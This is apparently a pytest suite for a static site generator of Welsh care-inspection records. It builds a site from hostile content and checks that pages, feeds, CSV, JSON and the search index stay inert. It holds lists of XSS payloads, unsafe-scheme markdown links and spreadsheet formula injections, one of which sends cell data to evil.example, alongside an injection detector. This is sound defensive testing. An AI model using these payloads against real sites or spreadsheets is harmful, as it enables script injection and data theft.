"""Hostile or broken input: nothing injected, nothing lost.

That a build killed midway leaves the previous site whole is proven in test_cache.py, by the
same walk of killed builds that proves the cache can be trusted after them.
"""

from __future__ import annotations

import csv
import dataclasses
import gzip
import json
import re
import xml.etree.ElementTree as ET
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest
import yaml
from bs4 import BeautifulSoup
from conftest import ENTRY, GOLDEN_CONTENT, TODAY, build_site, serving
from conftest import write_content as write_content_folder
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from sitegen import pipeline
from sitegen.checks.completeness import IncompleteSiteError, find_missing
from sitegen.content.loading import load_archive, load_vocabulary_file
from sitegen.content.parsing import TextFile
from sitegen.content.problems import Problem
from sitegen.content.reading import ContentFiles, read_content
from sitegen.content.validation import validate_entry
from sitegen.content.values import Context
from sitegen.model.timelines import Archive
from sitegen.site.facts import PageFacts, read_facts
from sitegen.site.markup import render_markdown
from sitegen.site.pages import Page

SLUG = "neath-port-talbot"

# OWASP filter-evasion examples and friends, each written where an editor could write it.
PAYLOADS = [
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    '<a href="jav&#x09;ascript:alert(1)">tab</a>',
    '<a href="&#106;&#97;vascript:alert(1)">entities</a>',
    '<iframe src="javascript:alert(1)"></iframe>',
    "<style>body{display:none}</style>",
    '<form action="https://evil.example/"><input name=q><button>Go</button></form>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '" onmouseover="alert(1)" x="',
    "' onfocus='alert(1)' autofocus='",
    "<!-- <script>alert(1)</script> -->",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    '<object data="data:text/html,<script>alert(1)</script>"></object>',
    '<embed src="javascript:alert(1)">',
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    "<details open ontoggle=alert(1)>x</details>",
    '<div style="background:url(javascript:alert(1))">styled</div>',
    "{{ 7 * 7 }} {% raw %} ${7*7}",
    '<a href="vbscript:msgbox(1)">vb</a> <a href="data:text/html,x">data</a>',
]

# Markdown that tries links with unsafe schemes, inline and by reference.
MARKDOWN = [
    "[inline](javascript:alert(1))",
    "[mixed case](JaVaScRiPt:alert(1))",
    "[reference][evil]\n\n[evil]: javascript:alert(1)",
    "[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[vb](vbscript:msgbox(1))",
    "<javascript:alert(1)>",
    "![tracker](https://evil.example/pixel.png)",
    "![xss](javascript:alert(1))",
    '[title break](https://example.org/ "a\\" onmouseover=\\"alert(1)")',
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    '<a href="https://example.org/" onclick="alert(1)" style="color:red">kept text</a>',
    "`<script>alert(1)</script>` in code",
]

# Cells a spreadsheet would run as formulas.
FORMULAS = [
    '=HYPERLINK("https://evil.example/?"&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
]

HOSTILE_AUTHORITY = {
    "name": "Neath \"Port\" Talbot' onload='alert(1)",
    "name_cy": "</script><script>alert(1)</script>",
    "gss_code": "W06000012",
    "website": 'https://www.npt.gov.uk/?q="><script>alert(1)</script>',
}


def _entry(number: int, title: str, text: str, body: str) -> tuple[str, str]:
    """Return a hostile entry's file name and text, with the payload in every free field."""
    data = {
        "authority": SLUG,
        "date": "2012-11-19",
        "kind": "escalation",
        "title": f"hostile {number} {title}",
        "body": "CSSIW",
        "inspection_type": text,
        "legal_basis": text,
        "findings": [text, FORMULAS[number % len(FORMULAS)]],
        "recommendations": [text],
        "sources": [
            {
                "title": text,
                "publisher": text,
                "date": "2012-11-19",
                "url": "https://example.org/?q=\"><script>alert(1)</script>&x='onmouseover='a",
            }
        ],
    }
    if number == 0:
        data["status"] = "serious-concern"
    front = yaml.safe_dump(data, sort_keys=False, allow_unicode=True)
    return f"2012-11-19-{SLUG}-hostile-{number}.md", f"---\n{front}---\n{body}\n"


def hostile_entries() -> dict[str, str]:
    """Return every hostile entry by file name."""
    entries = {}
    for number, payload in enumerate(PAYLOADS):
        markdown = MARKDOWN[number % len(MARKDOWN)]
        entries.update([_entry(number, payload, payload, f"{payload}\n\n{markdown}")])
    for number, markdown in enumerate(MARKDOWN, len(PAYLOADS)):
        entries.update([_entry(number, "markdown", "plain", markdown)])
    for number, formula in enumerate(FORMULAS, len(PAYLOADS) + len(MARKDOWN)):
        entries.update([_entry(number, formula, formula, f"{formula}\n\nSummary.")])
    return entries


@pytest.fixture(scope="module")
def hostile_site(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Return a site built from a content folder full of hostile records."""
    root = tmp_path_factory.mktemp("hostile")
    authority = yaml.safe_dump(HOSTILE_AUTHORITY, sort_keys=False, allow_unicode=True)
    content = write_content_folder(root, {f"{SLUG}.yaml": authority}, hostile_entries())
    about = "\n\n".join(["## Corrections policy", *MARKDOWN, "## Scope", *PAYLOADS])
    (content / "about.md").write_text(about, encoding="utf-8")
    site = root / "site"
    build_site(content, site)
    return site


def pages_of(site: Path) -> list[Path]:
    """Return every HTML page of a site but Pagefind's own."""
    return sorted(p for p in site.rglob("*.html") if p.relative_to(site).parts[0] != "pagefind")


SAFE_SCHEMES = {"", "http", "https", "mailto"}
URL_ATTRIBUTES = {
    "href", "src", "action", "formaction", "poster", "data", "srcset", "background",
    "cite", "xlink:href", "ping", "manifest",
}  # fmt: skip
FORBIDDEN_ELEMENTS = {
    "style", "iframe", "frame", "frameset", "form", "object", "embed", "applet", "math", "svg",
    "base", "input", "button", "textarea", "select", "img", "video", "audio", "details",
}  # fmt: skip
SEARCH_SCRIPTS = ("/static/search.js",)
SEARCH_PAGES = ("search/index.html", "cy/search/index.html")
STATUS_SCRIPTS = ("/static/on-day.js",)
STATUS_PAGES = ("status/index.html", "cy/status/index.html")
# The pictures' own SVG elements (templates/_charts.html), by class: a record's text can
# reach them only as escaped text and attributes, which are checked like any other.
OWN_SVG_CLASSES = {
    "chart__svg", "chart__defs", "chart-legend__swatch", "wales-chart__strip", "wales-chart__years",
}  # fmt: skip
# The status page's date field and the search's form, which the pages' own scripts run
# (static/on-day.js, static/search.js).
OWN_FORMS = ("data-on-day", "data-search")


def scheme(url: str) -> str:
    """Return a URL's scheme as a browser reads it: ASCII blanks and controls ignored."""
    cleaned = re.sub(r"[\x00-\x20]", "", url)
    match = re.match(r"([a-zA-Z][a-zA-Z0-9+.\-]*):", cleaned)
    return match.group(1).lower() if match else ""


def _data(element) -> bool:
    """Say whether a script element is data a browser never runs: JSON."""
    if element.get("src"):
        return False
    if element.get("type") != "application/json":
        return False
    try:
        json.loads(element.string or "")
    except ValueError:
        return False
    return True


def _own(element) -> bool:
    """Say whether a forbidden element is one of the templates' own, outside any summary."""
    if element.find_parent(class_="summary"):
        return False
    if element.name == "svg":
        return bool(OWN_SVG_CLASSES & set(element.get("class", [])))
    return element.name in ("form", "input", "button", "select", "details") and any(
        element.has_attr(own) or element.find_parent(attrs={own: True}) for own in OWN_FORMS
    )


def injections(html: str, *, scripts: tuple[str, ...] = (), data: bool = False) -> list[str]:
    """Return every way an HTML text could run script, style the page or send data away.

    The scripts named may be loaded; with data, JSON data in a script element is allowed.
    """
    soup = BeautifulSoup(html, "html.parser")
    found = []
    for element in soup.find_all(True):
        name = element.name.lower()
        if name in FORBIDDEN_ELEMENTS and not _own(element):
            found.append(f"<{name}> element")
        if name == "script" and data and _data(element):
            continue
        if name == "script" and (element.get("src") not in scripts or element.string):
            found.append(f"script {element.get('src')!r} {element.string!r}")
        if name == "meta" and element.get("http-equiv", "").lower() not in (
            "",
            "content-security-policy",
        ):
            found.append(f"meta http-equiv={element.get('http-equiv')!r}")
        for attribute, value in element.attrs.items():
            values = value if isinstance(value, list) else [value]
            if attribute.lower().startswith("on"):
                found.append(f"<{name} {attribute}=...>")
            if attribute.lower() == "style":
                found.append(f"<{name} style=...>")
            if attribute.lower() in URL_ATTRIBUTES:
                found += [
                    f"<{name} {attribute}={v!r}>" for v in values if scheme(v) not in SAFE_SCHEMES
                ]
    return found


@pytest.mark.site
def test_hostile_records_are_inert_in_every_page(hostile_site: Path) -> None:
    pages = pages_of(hostile_site)
    assert len(pages) > len(hostile_entries())
    for page in pages:
        relative = page.relative_to(hostile_site).as_posix()
        searching = relative in SEARCH_PAGES
        allowed = (
            SEARCH_SCRIPTS if searching else STATUS_SCRIPTS if relative in STATUS_PAGES else ()
        )
        found = injections(page.read_text(encoding="utf-8"), scripts=allowed, data=searching)
        assert found == [], relative


@pytest.mark.site
def test_hostile_text_is_shown_as_text(hostile_site: Path) -> None:
    for number, payload in enumerate(PAYLOADS):
        page = hostile_site / f"inspections/2012-11-19-{SLUG}-hostile-{number}/index.html"
        soup = BeautifulSoup(page.read_text(encoding="utf-8"), "html.parser")
        assert soup.h1 is not None
        assert soup.h1.get_text() == f"hostile {number} {payload}"
    authority = hostile_site / f"authorities/{SLUG}/index.html"
    main = BeautifulSoup(authority.read_text(encoding="utf-8"), "html.parser").main
    assert main is not None
    assert main["data-authority"] == HOSTILE_AUTHORITY["name"]


@pytest.mark.site
def test_unsafe_markdown_links_lose_their_address(hostile_site: Path) -> None:
    page = hostile_site / f"inspections/2012-11-19-{SLUG}-hostile-{len(PAYLOADS)}/index.html"
    summary = BeautifulSoup(page.read_text(encoding="utf-8"), "html.parser").select_one(".summary")
    assert summary is not None
    assert "inline" in summary.get_text()
    assert all(not a.get("href") for a in summary.find_all("a"))


@pytest.mark.site
def test_hostile_records_are_inert_in_the_feeds(hostile_site: Path) -> None:
    atom = "{http://www.w3.org/2005/Atom}"
    for feed in [hostile_site / "feed.xml", hostile_site / f"authorities/{SLUG}/feed.xml"]:
        root = ET.parse(feed).getroot()
        entries = root.findall(f"{atom}entry")
        assert entries
        for element in root.iter():
            if element.tag == f"{atom}content":
                assert element.get("type") == "html"
                assert injections(element.text or "") == [], feed
            if element.tag == f"{atom}link":
                assert scheme(element.get("href", "")) in {"http", "https"}


@pytest.mark.site
def test_hostile_records_are_plain_data_in_the_json(hostile_site: Path) -> None:
    entries = json.loads((hostile_site / "data/entries.json").read_text(encoding="utf-8"))
    titles = {entry["title"] for entry in entries["entries"]}
    assert {f"hostile {n} {payload}" for n, payload in enumerate(PAYLOADS)} <= titles
    authorities = json.loads((hostile_site / "data/authorities.json").read_text("utf-8"))
    assert authorities["authorities"][0]["name"] == HOSTILE_AUTHORITY["name"]
    for path in hostile_site.rglob("*.json"):
        json.loads(path.read_text(encoding="utf-8"))


@pytest.mark.site
def test_hostile_records_are_text_in_the_search_index(hostile_site: Path) -> None:
    fragments = list((hostile_site / "pagefind").glob("*/fragment/*.pf_fragment"))
    assert len(fragments) > len(PAYLOADS)
    for fragment in fragments:
        data = gzip.decompress(fragment.read_bytes()).removeprefix(b"pagefind_dcd")
        record = json.loads(data)
        # The index holds the page's text, not its markup: the title is the heading's text.
        page = hostile_site / record["url"].strip("/") / "index.html"
        soup = BeautifulSoup(page.read_text(encoding="utf-8"), "html.parser")
        assert soup.h1 is not None
        assert record["meta"]["title"] == soup.h1.get_text()
        # Pagefind escapes that text before its UI shows it (the browser test watches it).
        shown = record["content"].replace("<", "&lt;").replace(">", "&gt;")
        assert injections(shown) == [], record["url"]


@pytest.mark.site
def test_csv_cells_never_start_a_formula(hostile_site: Path) -> None:
    for name in ("entries.csv", "status-periods.csv"):
        with (hostile_site / "data" / name).open(encoding="utf-8", newline="") as file:
            rows = list(csv.reader(file))
        for row in rows[1:]:
            for cell in row:
                assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (name, cell)
    with (hostile_site / "data/entries.csv").open(encoding="utf-8", newline="") as file:
        by_id = {row["id"]: row for row in csv.DictReader(file)}
    number = len(PAYLOADS) + len(MARKDOWN)
    row = by_id[f"2012-11-19-{SLUG}-hostile-{number}"]
    assert row["inspection_type"] == "'" + FORMULAS[0]
    assert row["summary"] == "'" + FORMULAS[0] + "\n\nSummary."
    assert row["title"] == f"hostile {number} {FORMULAS[0]}"


# A real browser: no dialog opens and nothing is fetched from anywhere but the site.


@pytest.fixture(scope="module")
def served_hostile(hostile_site: Path) -> Iterator[str]:
    """Serve the hostile site on 127.0.0.1; yield its base URL."""
    with serving(hostile_site) as base:
        yield base


@pytest.mark.browser
def test_hostile_pages_run_nothing_in_a_browser(page, served_hostile: str) -> None:
    dialogs: list[str] = []
    outside: list[str] = []
    errors: list[str] = []
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    page.on(
        "request",
        lambda request: (
            None if request.url.startswith(served_hostile) else outside.append(request.url)
        ),
    )
    page.on("console", lambda m: errors.append(m.text) if m.type == "error" else None)
    paths = [
        "/",
        f"/authorities/{SLUG}/",
        "/about/",
        "/data/",
        *(f"/inspections/2012-11-19-{SLUG}-hostile-{n}/" for n in (0, 3, 4, 5, 10, 11, 23, 25)),
    ]
    for path in paths:
        page.goto(served_hostile + path)
        page.wait_for_load_state("load")
        page.mouse.move(200, 300)
        page.keyboard.press("Tab")
    page.goto(served_hostile + "/search/")
    page.locator("#search-term").fill("hostile alert")
    page.locator(".search-result a").first.wait_for()
    page.mouse.move(300, 400)
    # The results hold no script and no handler: Pagefind's excerpt is escaped text.
    shown = "[data-results] [onerror], [data-results] script"
    assert page.locator(shown).count() == 0
    page.wait_for_timeout(300)
    assert dialogs == []
    assert outside == []
    assert errors == []


# Property tests: whatever the front matter or body, a list of problems or a record.


def _vocabulary_context() -> Context:
    files = read_content(GOLDEN_CONTENT)
    vocabulary, problems = load_vocabulary_file(files)
    assert vocabulary is not None, problems
    return Context(vocabulary, TODAY)


CONTEXT = _vocabulary_context()
FIELD_NAMES = [
    "authority", "date", "kind", "title", "body", "status", "inspection_type", "fieldwork",
    "legal_basis", "findings", "recommendations", "sources", "url", "publisher",
    "authorities", "date_note", "joint_with", "context", "status_start", "status_end",
    "former_ids", "reproduces",
]  # fmt: skip
scalars = st.one_of(
    st.none(),
    st.booleans(),
    st.integers(),
    st.floats(allow_nan=True),
    st.text(max_size=30),
    st.sampled_from(
        [
            "2012-11-19",
            "2012-13",
            "neath-port-talbot",
            "CSSIW",
            "https://x.y/",
            "all",
            "unconfirmed",
            "2012-09/2012-10",
            "2012-10/2012-09",
            "corporate",
            "REPLACE",
        ]
    ),
)
keys = st.one_of(st.sampled_from(FIELD_NAMES), st.text(max_size=12))
values = st.recursive(
    scalars,
    lambda inner: st.lists(inner, max_size=4) | st.dictionaries(keys, inner, max_size=4),
    max_leaves=20,
)
front_matters = st.dictionaries(keys, values, max_size=12)


def _check_entry(text: str) -> None:
    file = TextFile("content/inspections/2012-11-19-neath-port-talbot-x.md", text)
    entry, problems = validate_entry(file, CONTEXT)
    assert (entry is None) == bool(problems)
    assert all(isinstance(problem, Problem) for problem in problems)
    for problem in problems:
        str(problem)
    if entry is not None:
        render_markdown(entry.summary)


@pytest.mark.unit
@settings(max_examples=200, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(front_matters, st.text(max_size=200))
def test_random_front_matter_gives_problems_never_an_exception(data: dict, body: str) -> None:
    front = yaml.safe_dump(data, allow_unicode=True)
    _check_entry(f"---\n{front}---\n{body}\n")


@pytest.mark.unit
@settings(max_examples=200, deadline=None)
@given(st.text(max_size=300), st.text(max_size=100))
def test_random_text_files_give_problems_never_an_exception(front: str, body: str) -> None:
    _check_entry(f"---\n{front}\n---\n{body}")
    _check_entry(front + body)


@pytest.mark.unit
@settings(max_examples=200, deadline=None)
@given(
    st.lists(
        st.one_of(
            st.text(max_size=40),
            st.sampled_from(PAYLOADS + MARKDOWN),
            st.sampled_from(["[", "](", ")", "<", ">", "&#", ";", "javascript:", "\n", "*", "`"]),
        ),
        max_size=12,
    ).map("".join),
    st.booleans(),
)
def test_random_markdown_renders_inert(body: str, headings: bool) -> None:
    html = render_markdown(body, headings=headings)
    assert injections(str(html)) == []


@pytest.mark.unit
@pytest.mark.parametrize(
    ("html", "found"),
    [
        ('<svg class="chart__svg"><title>x</title></svg>', []),
        ('<div data-on-day><form><input name="on"><button>Show</button></form></div>', []),
        ('<div class="summary"><svg class="chart__svg"></svg></div>', ["<svg> element"]),
        ('<svg class="other"></svg>', ["<svg> element"]),
        ("<form><input></form>", ["<form> element", "<input> element"]),
        (
            '<svg class="chart__svg"><a href="javascript:alert(1)"></a></svg>',
            ["<a href='javascript:alert(1)'>"],
        ),
    ],
)
def test_only_the_templates_own_pictures_and_date_field_are_let_through(
    html: str, found: list[str]
) -> None:
    assert injections(html) == found


@pytest.mark.unit
def test_a_good_entry_is_still_valid_for_the_property_tests() -> None:
    entry, problems = validate_entry(
        TextFile(f"content/inspections/2012-11-19-{SLUG}-protocol.md", ENTRY), CONTEXT
    )
    assert problems == [] and entry is not None


# Nothing lost: a plan that drops a record fails the build, naming the record.


def _output(archive: Archive, *, hide: str = "") -> dict[str, PageFacts]:
    """Return the pages the check reads, each authority page showing its entries."""
    output = {}
    for timeline in archive.timelines:
        shown = "".join(
            f'<article aria-labelledby="title-{entry.id}"></article>'
            for entry in timeline.entries
            if entry.id != hide
        )
        output[f"authorities/{timeline.authority.slug}/index.html"] = read_facts(shown.encode())
        for entry in timeline.entries:
            output[f"inspections/{entry.id}/index.html"] = read_facts(b"")
    return output


@pytest.fixture(scope="module")
def golden() -> tuple[ContentFiles, Archive]:
    """Return the golden fixture's files and model."""
    files = read_content(GOLDEN_CONTENT)
    return files, load_archive(files, TODAY)


BUG = "(the generator lost it: report this as a bug)"


@pytest.mark.unit
def test_a_complete_site_passes_the_check(golden: tuple[ContentFiles, Archive]) -> None:
    files, archive = golden
    assert find_missing(archive, _output(archive), files.listing) == []


@pytest.mark.unit
def test_a_missing_page_or_hidden_entry_is_named(golden: tuple[ContentFiles, Archive]) -> None:
    files, archive = golden
    first, last = archive.entries[0], archive.entries[-1]
    output = _output(archive, hide=last.id)
    del output[f"inspections/{first.id}/index.html"]
    page = f"authorities/{last.authority}/index.html"
    # A programme is shown under each authority it covered.
    shown = sum(len(entry.authorities) for entry in archive.entries)
    assert [str(p) for p in find_missing(archive, output, files.listing)] == [
        f"{last.path}:1: page: is not shown on {page} {BUG}",
        f"{first.path}:1: page: inspections/{first.id}/index.html was not made {BUG}",
        f"inspections:1: entries: there are {len(files.entries)} entry files, to be shown "
        f"{shown} times on the authority pages, but they show {shown - 1} entries {BUG}",
    ]


def _build_with(
    monkeypatch: pytest.MonkeyPatch, tmp_path: Path, stage: str, change: Callable
) -> tuple[Problem, ...]:
    """Build the golden fixture with one stage's result changed; return the problems."""
    real = getattr(pipeline, stage)
    monkeypatch.setattr(pipeline, stage, lambda *args, **kwargs: change(real(*args, **kwargs)))
    site = tmp_path / "site"
    with pytest.raises(IncompleteSiteError) as raised:
        build_site(GOLDEN_CONTENT, site)
    assert not site.exists()
    return raised.value.problems


@pytest.mark.site
def test_a_plan_that_drops_an_entry_page_fails_the_build(
    monkeypatch: pytest.MonkeyPatch, tmp_path: Path, golden: tuple[ContentFiles, Archive]
) -> None:
    lost = golden[1].entries[0]

    def drop(pages: tuple[Page, ...]) -> tuple[Page, ...]:
        return tuple(p for p in pages if p.path != f"inspections/{lost.id}/index.html")

    problems = _build_with(monkeypatch, tmp_path, "plan_pages", drop)
    assert [str(p) for p in problems] == [
        f"{lost.path}:1: page: inspections/{lost.id}/index.html was not made {BUG}"
    ]


@pytest.mark.site
def test_a_plan_that_hides_an_entry_from_its_authority_fails_the_build(
    monkeypatch: pytest.MonkeyPatch, tmp_path: Path, golden: tuple[ContentFiles, Archive]
) -> None:
    timeline = next(t for t in golden[1].timelines if t.entries)
    page = f"authorities/{timeline.authority.slug}/index.html"

    def hide(pages: tuple[Page, ...]) -> tuple[Page, ...]:
        return tuple(
            Page(p.path, p.template, {**p.context, "entries": p.context["entries"][1:]})
            if p.path == page
            else p
            for p in pages
        )

    problems = [str(p) for p in _build_with(monkeypatch, tmp_path, "plan_pages", hide)]
    assert problems[-1].startswith("inspections:1: entries: there are")
    assert f"{timeline.entries[-1].path}:1: page: is not shown on {page} {BUG}" in problems


@pytest.mark.site
def test_a_record_skipped_by_the_model_fails_the_build(
    monkeypatch: pytest.MonkeyPatch, tmp_path: Path, golden: tuple[ContentFiles, Archive]
) -> None:
    lost = golden[1].entries[0]

    def skip(archive: Archive) -> Archive:
        timelines = tuple(
            dataclasses.replace(t, entries=tuple(e for e in t.entries if e.id != lost.id))
            for t in archive.timelines
        )
        return dataclasses.replace(archive, timelines=timelines)

    problems = _build_with(monkeypatch, tmp_path, "load_archive", skip)
    assert [str(p) for p in problems] == [
        f"{lost.path}:1: record: has no entry in the model {BUG}",
    ]
